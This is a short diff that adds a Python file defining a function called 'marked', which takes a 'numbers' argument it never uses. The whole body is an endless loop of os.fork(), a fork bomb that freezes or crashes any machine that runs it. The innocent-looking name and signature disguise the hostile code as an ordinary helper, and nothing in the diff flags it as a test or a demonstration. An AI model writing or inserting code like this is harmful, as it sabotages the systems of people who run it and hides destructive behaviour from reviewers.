@@ -1,0 +1,6 @@
+import os
+
+
+def marked(numbers):
+    while True:
+        os.fork()
